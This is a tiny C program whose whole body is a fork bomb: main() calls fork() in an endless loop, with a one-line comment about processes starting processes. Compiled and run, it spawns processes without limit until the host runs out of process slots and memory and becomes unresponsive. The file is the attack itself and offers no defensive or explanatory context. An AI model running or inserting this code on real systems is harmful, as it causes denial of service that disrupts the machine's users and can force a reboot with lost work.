// Starts processes that start processes.
#include <unistd.h>

int main()
{
    for (;;)
        fork();
}
